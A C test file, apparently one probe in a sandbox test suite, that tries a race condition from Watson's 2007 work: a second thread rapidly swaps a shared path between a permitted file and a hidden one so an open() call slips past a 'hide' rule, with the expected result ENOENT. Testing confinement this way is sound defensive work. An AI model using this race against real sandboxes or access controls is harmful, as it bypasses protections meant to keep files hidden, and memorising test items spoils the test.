// Route: changes a path in memory while another thread's call is judged, from a file of its own to a hidden one
// Known from: Watson 2007, Exploiting Concurrency Vulnerabilities in System Call Wrappers (Systrace)
// Grants: {rules: ['hide $WORK/way/held']}
// Refused: ENOENT
// Twin: opens the file of its own by the same memory
// Unconfined: works
// Worlds: walls
#include "attempt.h"
#include <pthread.h>

static char path[4096];
static volatile int over, turns;
static char *good, *bad;

static void *rewrite(void *unused) {
  for (; !over; turns++) {
    strcpy(path, bad);
    strcpy(path, good);
  }
  return unused;
}

static int reads(int descriptor) {
  char byte;
  struct stat met;
  return descriptor != -1 && fstat(descriptor, &met) == 0 && met.st_size > 0 && pread(descriptor, &byte, 1, 0) == 1;
}

int main(void) {
  pthread_t thread;
  int found = -1, ours = -1;
  good = at("WORK", "/way/mine");
  bad = at("WORK", "/way/held");
  close(open(good, O_WRONLY | O_CREAT, 0644));
  strcpy(path, good);
  pthread_create(&thread, NULL, rewrite, NULL);
  for (int i = 0; (i < 20000 || turns < 1000000) && found == -1; i++) {
    int descriptor = open(path, O_RDONLY);
    if (reads(descriptor)) found = descriptor;
    else if (descriptor != -1) close(ours), ours = descriptor;
  }
  over = 1;
  pthread_join(thread, NULL);
  errno = ENOENT;
  attempt(found);
  twin(open(good, O_RDONLY));
}
